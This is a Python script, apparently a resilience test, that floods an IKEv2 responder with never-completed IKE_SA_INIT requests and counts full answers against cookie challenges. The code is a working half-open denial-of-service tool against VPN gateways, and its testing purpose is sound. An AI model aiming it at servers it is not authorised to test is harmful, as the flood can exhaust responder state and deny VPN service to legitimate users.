#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A half-open flood: IKE_SA_INIT requests that are never followed up.

    ike_flood.py SRC DST COUNT [PORT]

Sends COUNT well-formed IKE_SA_INIT requests (fresh SPIi each; proposal
chacha20poly1305 / HMAC-SHA2-256 / Curve25519, a random KE and nonce) from
SRC to DST, reads the answers until none arrives for a second, and prints

    sent N answered A cookie C other O

where C counts answers carrying a COOKIE notify (RFC 7296 section 2.6), A
the full answers (an SA payload: the responder now holds a half-open SA)
and O anything else. A real attacker would not answer the cookies either.
"""
import os
import select
import socket
import struct
import sys
import time

PLD_SA, PLD_KE, PLD_NONCE, PLD_NOTIFY = 33, 34, 40, 41
EXCH_IKE_SA_INIT = 34
FLAG_INITIATOR = 0x08
NOTIFY_COOKIE = 16390
ENCR_CHACHA20_POLY1305, PRF_HMAC_SHA2_256, DH_CURVE25519 = 28, 5, 31
IDLE_S = 1.0


def transform(last, ttype, tid):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8, ttype, 0, tid)


def request():
    trans = (transform(False, 1, ENCR_CHACHA20_POLY1305) + transform(False, 2, PRF_HMAC_SHA2_256)
             + transform(True, 4, DH_CURVE25519))
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trans), 1, 1, 0, 3) + trans
    sa = struct.pack("!BBH", PLD_KE, 0, 4 + len(prop)) + prop
    ke = struct.pack("!BBHHH", PLD_NONCE, 0, 8 + 32, DH_CURVE25519, 0) + os.urandom(32)
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    hdr = os.urandom(8) + bytes(8) + struct.pack("!BBBBII", PLD_SA, 0x20, EXCH_IKE_SA_INIT,
                                                 FLAG_INITIATOR, 0, 28 + len(body))
    return hdr + body


def classify(msg):
    """'answered', 'cookie' or 'other' for one response."""
    if len(msg) < 28:
        return "other"
    nxt, off = msg[16], 28
    while nxt and off + 4 <= len(msg):
        plen = struct.unpack_from("!H", msg, off + 2)[0]
        if plen < 4 or off + plen > len(msg):
            return "other"
        if nxt == PLD_SA:
            return "answered"
        if nxt == PLD_NOTIFY and plen >= 8 and struct.unpack_from("!H", msg, off + 6)[0] == NOTIFY_COOKIE:
            return "cookie"
        nxt, off = msg[off], off + plen
    return "other"


def main():
    if len(sys.argv) not in (4, 5):
        sys.exit(__doc__)
    src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    port = int(sys.argv[4]) if len(sys.argv) == 5 else 500
    fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    got = {"answered": 0, "cookie": 0, "other": 0}
    for _ in range(count):
        s.sendto(request(), (dst, port))
    last = time.monotonic()
    while time.monotonic() - last < IDLE_S:
        r, _, _ = select.select([s], [], [], IDLE_S)
        if not r:
            continue
        got[classify(s.recv(65536))] += 1
        last = time.monotonic()
    print(f"sent {count} answered {got['answered']} cookie {got['cookie']} other {got['other']}")


if __name__ == "__main__":
    main()
